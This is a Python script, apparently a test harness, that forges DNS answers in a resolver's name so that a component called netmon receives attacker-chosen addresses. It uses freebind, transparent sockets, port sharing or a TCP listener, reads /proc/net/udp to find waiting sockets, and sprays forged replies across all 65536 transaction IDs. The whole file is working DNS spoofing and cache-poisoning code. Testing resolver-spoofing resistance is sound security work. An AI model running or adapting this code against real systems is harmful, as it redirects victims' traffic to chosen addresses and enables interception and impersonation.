"""An agent that answers in a resolver's name: asks the resolver for NAME, and sends forged answers to netmon, which asks
in its place.

usage: dns-forger.py WAY RESOLVER NAME ADDRESS
  freebind     binds the resolver's IPv6 address, which is elsewhere, and sends from there
  transparent  the same with IPv4 (needs CAP_NET_ADMIN)
  shared       shares the port of a resolver on this machine (SO_REUSEADDR) and takes its queries
  stream       listens where a resolver of this machine does not: on TCP

Prints the result in one line: the address that was answered, "nothing", or why it could not try.
"""
import select
import socket
import struct
import sys
import time

from dns_stream import receive, send

WAY, RESOLVER, NAME, ADDRESS = sys.argv[1:]
IPV6_FREEBIND, IP_TRANSPARENT = 78, 19
FAMILY = socket.AF_INET6 if ":" in RESOLVER else socket.AF_INET
ID = 7
SECONDS = 1.2


def query():
    labels = b"".join(bytes([len(label)]) + label.encode() for label in NAME.split("."))
    return struct.pack("!HHHHHH", ID, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def forged(asked):
    record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + socket.inet_aton(ADDRESS)
    return asked[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + asked[12:] + record


def hexed(address):
    raw = socket.inet_pton(FAMILY, address)
    return "".join(raw[i : i + 4][::-1].hex() for i in range(0, len(raw), 4)).upper()


def address_of(text):
    raw = bytes.fromhex(text)
    return socket.inet_ntop(FAMILY, b"".join(raw[i : i + 4][::-1] for i in range(0, len(raw), 4)))


def askers():
    """The places where somebody waits for the resolver's answer."""
    with open("/proc/net/udp6" if FAMILY == socket.AF_INET6 else "/proc/net/udp") as table:
        for line in list(table)[1:]:
            local, remote = line.split()[1:3]
            if remote == hexed(RESOLVER) + ":0035":
                address, port = local.split(":")
                yield address_of(address), int(port, 16)


def spray(sock):
    """To everyone who asks: first under the id of the agent's own query, then under any."""
    for place in list(askers()):
        if place == asking.getsockname()[:2]:
            continue
        for number in [ID, *range(65536)]:
            answer = struct.pack("!H", number) + forged(query())[2:]
            try:
                sock.sendto(answer, place)
            except OSError:
                pass
            if number % 256 == 0 and (number > 4096 and time.time() > until or answered()):
                return


def answered():
    return select.select([asking], [], [], 0)[0] != []


asking = socket.socket(FAMILY, socket.SOCK_STREAM if WAY == "stream" else socket.SOCK_DGRAM)
asking.settimeout(SECONDS)
forger = socket.socket(FAMILY, asking.type)
until = time.time() + SECONDS
outcome = "nothing"
try:
    if WAY == "freebind":
        forger.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    if WAY == "transparent":
        forger.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
    if WAY in ("shared", "stream"):
        forger.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    forger.bind((RESOLVER, 53))
    if WAY == "stream":
        forger.listen()
        forger.settimeout(SECONDS)
        asking.connect((RESOLVER, 53))
        send(asking, query())
        netmon, _ = forger.accept()
        netmon.settimeout(SECONDS)
        send(netmon, forged(receive(netmon)))
        reply = receive(asking)
    else:
        asking.connect((RESOLVER, 53))
        asking.send(query())
        while time.time() < until and not answered():
            if WAY != "shared":
                spray(forger)
            elif select.select([forger], [], [], 0.05)[0]:
                taken, sender = forger.recvfrom(65535)
                try:
                    forger.sendto(forged(taken), sender)
                except OSError:
                    pass
        reply = asking.recv(65535)
    if struct.unpack("!H", reply[6:8])[0]:
        outcome = socket.inet_ntoa(reply[-4:])
except (OSError, EOFError) as error:
    outcome = "nothing" if isinstance(error, (TimeoutError, EOFError, ConnectionError)) else str(error)
print(outcome, flush=True)
